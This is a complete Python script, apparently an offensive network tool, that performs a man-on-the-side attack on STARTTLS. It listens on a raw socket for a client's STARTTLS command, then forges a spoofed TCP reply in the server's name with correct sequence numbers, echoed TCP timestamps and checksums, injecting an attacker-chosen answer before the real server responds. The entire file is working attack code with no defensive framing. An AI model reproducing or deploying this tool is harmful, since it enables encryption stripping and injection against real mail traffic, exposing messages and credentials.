#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""A man on the side: hears STARTTLS and answers before the server can.

usage: onside.py HEAR SPEAK PORT ANSWER

Listens on interface HEAR and sends on interface SPEAK, in the server's name, the line ANSWER
padded to the length of the answer it races, so that the sequence numbers stay in step.
"""
import socket
import struct
import sys

GENUINE_BYTES = len("220 2.0.0 Ready to start TLS\r\n")
REQUEST = b"STARTTLS\r\n"
ETHERNET_BYTES, IPV4 = 14, 0x0800
PSH_ACK = 0x18
TTL = 61


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def timestamps(options):
    """The client's TCP timestamps (RFC 7323), which a forgery must echo to be believed."""
    at = 0
    while at < len(options) and options[at]:
        if options[at] == 8:
            return struct.unpack_from("!II", options, at + 2)
        at += 1 if options[at] == 1 else options[at + 1]
    return None


def forged(frame, port, answer):
    """The frame that answers `frame`, if that is an IPv4 segment asking `port` for STARTTLS."""
    ip = frame[ETHERNET_BYTES:]
    header = (ip[0] & 15) * 4
    tcp = ip[header:struct.unpack_from("!H", ip, 2)[0]]
    if ip[9] != socket.IPPROTO_TCP or len(tcp) < 20:
        return None
    sport, dport, seq, ack, offset = struct.unpack_from("!HHIIB", tcp)
    data = tcp[(offset >> 4) * 4:]
    if dport != port or data.upper() != REQUEST:
        return None
    text = answer.encode().ljust(GENUINE_BYTES - 2, b".") + b"\r\n"
    stamps = timestamps(tcp[20:(offset >> 4) * 4])
    options = b"\1\1\x08\x0a" + struct.pack("!II", stamps[1], stamps[0]) if stamps else b""
    words = 5 + len(options) // 4
    segment = struct.pack("!HHIIBBHHH", dport, sport, ack, seq + len(data) & 0xFFFFFFFF, words << 4,
                          PSH_ACK, 64, 0, 0) + options + text
    pseudo = ip[16:20] + ip[12:16] + struct.pack("!HH", socket.IPPROTO_TCP, len(segment))
    segment = segment[:16] + struct.pack("!H", checksum(pseudo + segment)) + segment[18:]
    top = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(segment), 0, 0, TTL, socket.IPPROTO_TCP, 0,
                      ip[16:20], ip[12:16])
    top = top[:10] + struct.pack("!H", checksum(top)) + top[12:]
    return frame[6:12] + frame[:6] + struct.pack("!H", IPV4) + top + segment


def main(hear, speak, port, answer):
    ear = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(IPV4))
    ear.bind((hear, IPV4))
    mouth = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    mouth.bind((speak, 0))
    print("listening", flush=True)
    while True:
        frame, where = ear.recvfrom(65536)
        if where[2] == socket.PACKET_OUTGOING:
            continue
        reply = forged(frame, int(port), answer)
        if reply:
            mouth.send(reply)


if __name__ == "__main__":
    main(*sys.argv[1:])
